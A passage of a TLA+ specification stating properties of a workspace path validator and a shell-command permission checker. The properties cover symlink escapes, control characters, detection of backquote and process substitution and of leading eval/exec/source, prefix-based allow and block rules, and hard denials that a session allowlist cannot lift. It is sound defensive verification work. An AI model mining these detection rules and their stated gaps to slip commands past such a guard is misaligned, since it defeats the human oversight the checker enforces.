\* symlinked intermediate directory and a dangling final link included, lies
\* inside the canonical workspace root.
C21_AcceptedLeadsInsideRoot ==
    (pc = "validated" /\ pathResult.isValid)
        => InsideRoot(Destination, CanonicalRoot)

(***************************************************************************)
(* Relative candidates and the canonical root.                             *)
(***************************************************************************)
\* a relative candidate that passes the empty, null byte and pattern checks
PlainRelative(p) == PassesPatternChecks(p) /\ ~IsAbsolute(p)

\* the canonical root joined with the candidate
JoinedWithRoot == pathResolve(CanonicalRoot, filePath)

\* the joined path names an existing symbolic link that leaves the root
JoinedLeavesRootByLink ==
    /\ lstatSync(fsys, JoinedWithRoot).ok
    /\ isSymbolicLink(fsys, lstatSync(fsys, JoinedWithRoot))
    /\ realpathSync(fsys, JoinedWithRoot).ok
    /\ ~InsideRoot(realpathSync(fsys, JoinedWithRoot).path, CanonicalRoot)

\* C22: for every workspace root, one given through a symbolic link included,
\* a relative candidate without suspicious patterns (and not itself a link
\* out of the root) is accepted, and its sanitizedPath is the canonical root
\* joined with the candidate.
C22_ResolvedAgainstCanonicalRoot ==
    (pc = "validated" /\ PlainRelative(filePath) /\ ~JoinedLeavesRootByLink)
        => /\ pathResult.isValid
           /\ pathResult.sanitizedPath = JoinedWithRoot

(***************************************************************************)
(* Control characters in a candidate path.                                 *)
(***************************************************************************)
\* a byte in 0x01-0x1f or 0x7f
HasControlCharacter(s) == \E i \in 1..Len(s) : s[i] \in ControlChars \ {NullByte}

\* C23: validateAndSanitizePath rejects every candidate path that contains a
\* control character (0x01-0x1f or 0x7f), not only the null byte.
C23_ControlCharacterRejected ==
    (pc = "validated" /\ HasControlCharacter(filePath)) => ~pathResult.isValid

(***************************************************************************)
(* Backquotes and process substitution in the detector.                    *)
(***************************************************************************)
\* a backquote outside single quotes and not backslash-escaped
LiveBacktick(s) == \E i \in Live(s) : s[i] = Backtick

\* C24: every command with a backquote outside single quotes and not
\* backslash-escaped is reported by detectCommandSubstitution, a single
\* backquote without a closing one included.
C24_OpeningBacktickDetected ==
    (pc = "detected" /\ LiveBacktick(command)) => detected = TRUE

\* the positions of <( and >(
ProcessSubstitutions(s) ==
    { i \in 1..Len(s) : s[i] \in {"<", ">"} /\ CharAt(s, i + 1) = "(" }

\* position i is inside double quotes, in a command without single quotes,
\* backslashes or backquotes
InsideDoubleQuotes(s, i) ==
    Cardinality({ k \in 1..(i - 1) : s[k] = "\"" }) % 2 = 1

\* a command without single quotes, backslashes, backquotes, dollar signs,
\* encoded text or a leading eval, exec, source or dot
NoOtherConstruct(s) ==
    /\ \A i \in 1..Len(s) : s[i] \notin {"'", "\\", Backtick, "$"}
    /\ ~containsEncodedCommands(s)
    /\ ~LeadingWord(s, <<"e", "v", "a", "l">>)
    /\ ~LeadingWord(s, <<"e", "x", "e", "c">>)
    /\ ~LeadingWord(s, <<"s", "o", "u", "r", "c", "e">>)
    /\ ~LeadingWord(s, <<".">>)

\* <( or >( outside all quotes
UnquotedProcessSubstitution(s) ==
    /\ NoOtherConstruct(s)
    /\ \E i \in ProcessSubstitutions(s) : ~InsideDoubleQuotes(s, i)

\* the only suspicious construct is a closed <(...) or >(...) inside double
\* quotes
OnlyQuotedProcessSubstitution(s) ==
    /\ NoOtherConstruct(s)
    /\ ProcessSubstitutions(s) # {}
    /\ \A i \in ProcessSubstitutions(s) :
          /\ InsideDoubleQuotes(s, i)
          /\ \E j \in (i + 2)..Len(s) : s[j] = ")" /\ InsideDoubleQuotes(s, j)

\* C25: <( or >( outside all quotes makes detectCommandSubstitution return
\* true, and a command whose only suspicious construct is <(...) or >(...)
\* inside double quotes makes it return false.
C25_ProcessSubstitutionOnlyUnquoted ==
    pc = "detected"
        => /\ UnquotedProcessSubstitution(command) => detected = TRUE
           /\ OnlyQuotedProcessSubstitution(command) => detected = FALSE

(***************************************************************************)
(* Rule matching: a literal prefix at a token boundary.                    *)
(***************************************************************************)
\* the maximal runs of non-blank characters of s, in order
RECURSIVE WordsOf(_, _, _)
WordsOf(s, cur, out) ==
    IF s = <<>> THEN IF cur = <<>> THEN out ELSE Append(out, cur)
    ELSE IF Head(s) \in WhiteSpace
         THEN WordsOf(Tail(s), <<>>, IF cur = <<>> THEN out ELSE Append(out, cur))
         ELSE WordsOf(Tail(s), Append(cur, Head(s)), out)

RECURSIVE JoinWords(_)
JoinWords(ws) ==
    IF ws = <<>> THEN <<>>
    ELSE IF Len(ws) = 1 THEN Head(ws)
    ELSE Head(ws) \o <<" ">> \o JoinWords(Tail(ws))

\* s with its blanks normalized: the words of s, one space between them
WhitespaceNormal(s) == JoinWords(WordsOf(s, <<>>, <<>>))

\* the normalized prefixes of the shell rules name(prefix) of a tool list
RulePrefixes(tools) ==
    { WhitespaceNormal(SubSeq(tools[k], Len(name) + 2, Len(tools[k]) - 1)) :
        <<k, name>> \in
            { kn \in (1..Len(tools)) \X {RunShellCommand, ShellTool} :
                /\ Len(tools[kn[1]]) >= Len(kn[2]) + 2
                /\ SubSeq(tools[kn[1]], 1, Len(kn[2]) + 1) = kn[2] \o <<"(">>
                /\ tools[kn[1]][Len(tools[kn[1]])] = ")" } }

\* the normalized sub-commands
NormalSubCommands ==
    [k \in 1..Len(splitCommands(command)) |->
        WhitespaceNormal(splitCommands(command)[k])]

\* sub-command k matches a prefix of the set
MatchesOneOf(k, prefixes) ==
    \E r \in prefixes : MatchesRule(NormalSubCommands[k], r)

SessionEntryPrefixes == { WhitespaceNormal(a) : a \in sessionAllowlist.entries }

\* C26: rule matching is a literal prefix match at a token boundary after
\* whitespace normalization of both sides: a sub-command matches a rule iff
\* it starts with the rule's prefix and ends there or goes on with a space.
\* A block rule therefore denies exactly the commands with a matching
\* sub-command, and the allow rules and session entries allow exactly the
\* commands whose sub-commands all match; rule git does not match gitk, and an
\* empty prefix matches no sub-command.
C26_PrefixAtTokenBoundary ==
    (pc = "done" /\ ~detectCommandSubstitution(command) /\ ~BlockWildcard)
        => LET n == Len(NormalSubCommands)
               blocked == \E k \in 1..n : MatchesOneOf(k, RulePrefixes(excludeTools))
               allowPrefixes ==
                   RulePrefixes(coreTools) \cup SessionEntryPrefixes
           IN /\ IsHardDenial(verdict) <=> blocked
              /\ (~blocked /\ ~AllowWildcard
                    /\ (sessionAllowlist.present \/ RulePrefixes(coreTools) # {}))
                    => (verdict.allAllowed
                          <=> \A k \in 1..n : MatchesOneOf(k, allowPrefixes))
              /\ RulePrefixes(excludeTools) = {<<>>} => ~IsHardDenial(verdict)
              /\ (command = ExampleGitk /\ RulePrefixes(excludeTools) = {ExampleGit})
                    => ~IsHardDenial(verdict)

\* the block rule git denies `git   status`, naming the normalized
\* sub-command `git status`
C26_Witness ==
    /\ pc = "done"
    /\ command = ExampleGitSpacedStatus
    /\ RulePrefixes(excludeTools) = {ExampleGit}
    /\ IsHardDenial(verdict)
    /\ verdict.disallowedCommands = <<GitStatus>>

(***************************************************************************)
(* Hard denials and the session allowlist.                                 *)
(***************************************************************************)
\* the session allowlists a caller may hold instead of the current one: none,
\* an empty one, one with an entry, and one with the command itself
OtherSessionAllowlists ==
    SessionAllowlistOptions \cup { SessionAllowlistOf({command}) }

\* what the same call returns with another session allowlist
VerdictWith(session) ==
    checkCommandPermissions(command, coreTools, excludeTools, session)

\* the detector, the block wildcard or a block rule applies to the command
HardDenialSource ==
    \/ detectCommandSubstitution(command)
    \/ BlockWildcard
    \/ SomeBlocked

\* C27: whether checkCommandPermissions returns a hard denial, and the whole
\* verdict in that case, is the same for every session allowlist (absent,
\* empty, or containing the command itself); a hard denial arises only from
\* the detector, the block wildcard or a block rule, and every other denial
\* is soft.
C27_SessionCannotLiftHardDenial ==
    pc = "done"
        => /\ \A s \in OtherSessionAllowlists :
                /\ IsHardDenial(VerdictWith(s)) <=> IsHardDenial(verdict)
                /\ IsHardDenial(verdict) => VerdictWith(s) = verdict
           /\ IsHardDenial(verdict) <=> HardDenialSource
           /\ (~verdict.allAllowed /\ ~HardDenialSource) => IsSoftDenial(verdict)

\* the session allowlist matches the blocked command itself and the verdict
\* is the hard denial all the same
C27_Witness ==
    /\ pc = "done"
    /\ sessionAllowlist.present
    /\ \E r \in SessionPrefixes : r = normalize(command)
    /\ ~detectCommandSubstitution(command)
    /\ ~BlockWildcard
    /\ SomeBlocked
    /\ IsHardDenial(verdict)
    /\ VerdictWith(NoSessionAllowlist) = verdict

(***************************************************************************)
(* The confirmation loop.                                                  *)
(***************************************************************************)
LastEntry == calls[Len(calls)]

\* C28: after a soft denial in default-deny mode, adding every string of
\* disallowedCommands to the session allowlist and validating the same command
\* again gives allAllowed; while nothing is added, validating it again gives
\* the same soft denial; and a command that was hard-denied is hard-denied
\* again whatever has been added to the allowlist since.
C28_ConfirmationLoop ==
    (pc = "done" /\ calls # <<>>)
        => /\ (LastEntry.added /\ LastEntry.arg = command) => verdict.allAllowed
           /\ (~LastEntry.added /\ LastEntry.arg = command
                  /\ IsSoftDenial(LastEntry.result))
                 => verdict = LastEntry.result
           /\ \A i \in 1..Len(calls) :
                 (IsHardDenial(calls[i].result) /\ calls[i].arg = command)
                    => IsHardDenial(verdict)

\* a command is hard-denied, another one is soft-denied, confirmed and then
\* allowed, and the first command is hard-denied again under the allowlist
\* that has grown
C28_Witness ==
    /\ pc = "done"
    /\ Len(calls) = 3
    /\ IsHardDenial(calls[1].result)
    /\ IsSoftDenial(calls[2].result)
    /\ calls[2].added
    /\ calls[3].arg = calls[2].arg
    /\ calls[3].result.allAllowed
    /\ calls[3].session.entries # calls[2].session.entries
    /\ command = calls[1].arg
    /\ sessionAllowlist = calls[3].session
    /\ IsHardDenial(verdict)

(***************************************************************************)
(* Unterminated quotes and a trailing backslash.                           *)
(***************************************************************************)
\* the position of the quote that opens a region which is never closed, 0 if
\* every quote is closed; a backslash escapes the next character outside
\* single quotes; open is the position of the quote that opened the current
\* region
RECURSIVE OpenQuoteScan(_, _, _)
OpenQuoteScan(s, i, open) ==
    IF i > Len(s) THEN open
    ELSE IF open = 0
         THEN IF s[i] = "\\" THEN OpenQuoteScan(s, i + 2, 0)
              ELSE IF s[i] \in {"'", "\""} THEN OpenQuoteScan(s, i + 1, i)
              ELSE OpenQuoteScan(s, i + 1, 0)
    ELSE IF s[open] = "\"" /\ s[i] = "\\" THEN OpenQuoteScan(s, i + 2, open)
    ELSE IF s[i] = s[open] THEN OpenQuoteScan(s, i + 1, 0)
    ELSE OpenQuoteScan(s, i + 1, open)

UnterminatedQuote(s) == OpenQuoteScan(s, 1, 0)

\* a list of non-empty strings
IsCommandList(v) ==
    /\ DOMAIN v = 1..Len(v)
    /\ \A k \in 1..Len(v) : v[k] # <<>> /\ DOMAIN v[k] = 1..Len(v[k])

\* C29: splitCommands and detectCommandSubstitution return (a list of
\* sub-commands, a boolean) on every input, an unterminated quote and a
\* trailing lone backslash included; with an unterminated quote everything
\* from the opening quote on is quoted, so no separator after it splits the
\* command and the remainder is the end of the one final sub-command.
C29_UnterminatedQuoteKeepsRemainder ==
    pc = "split"
        => /\ IsCommandList(commands)
           /\ detectCommandSubstitution(command) \in BOOLEAN
           /\ UnterminatedQuote(command) > 0
                 => /\ commands # <<>>
                    /\ EndsWith(commands[Len(commands)],
                                TrimEnd(SubSeq(command, UnterminatedQuote(command),
                                               Len(command))))

(***************************************************************************)
(* The fields of a verdict.                                                *)
(***************************************************************************)
\* C30: in every verdict of checkCommandPermissions, for every command (the
\* empty string and a string of separators included) and configuration,
\* allAllowed is true iff disallowedCommands is empty, and isHardDenial = true
\* implies allAllowed = false and a block reason.
C30_VerdictConsistent ==
    pc = "done"
        => /\ verdict.allAllowed <=> verdict.disallowedCommands = <<>>
           /\ ("isHardDenial" \in DOMAIN verdict /\ verdict.isHardDenial = TRUE)
                 => /\ ~verdict.allAllowed
                    /\ "blockReason" \in DOMAIN verdict
                    /\ verdict.blockReason # <<>>

=============================================================================
